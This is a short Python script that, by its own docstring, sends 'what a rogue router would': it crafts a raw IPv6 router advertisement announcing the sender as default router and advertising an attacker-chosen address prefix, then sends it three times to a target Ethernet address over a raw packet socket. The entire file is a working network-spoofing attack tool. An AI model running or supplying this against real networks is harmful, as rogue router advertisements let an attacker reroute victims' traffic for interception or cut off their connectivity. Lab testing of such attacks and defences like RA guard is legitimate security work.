"""Sends what a rogue router would: `advert.py DEV MAC`, a router advertisement to that Ethernet address."""

import socket
import struct
import sys

ROUTER = "fe80::bad1"
PREFIX = "2001:db8:bad1::"


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    """Three of them, in case one is lost."""
    device, to = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
    door = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    door.bind((device, 0x86DD))
    mac = door.getsockname()[4]
    source = socket.inet_pton(socket.AF_INET6, ROUTER)
    everybody = socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = socket.inet_pton(socket.AF_INET6, PREFIX)
    # RFC 4861: a default router for 1800 s, its MAC, and a prefix to take an address from.
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + mac
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix
    pseudo = source + everybody + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", _checksum(pseudo + body)) + body[4:]
    packet = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + everybody + body
    for _ in range(3):
        door.send(to + mac + b"\x86\xdd" + packet)


if __name__ == "__main__":
    main()
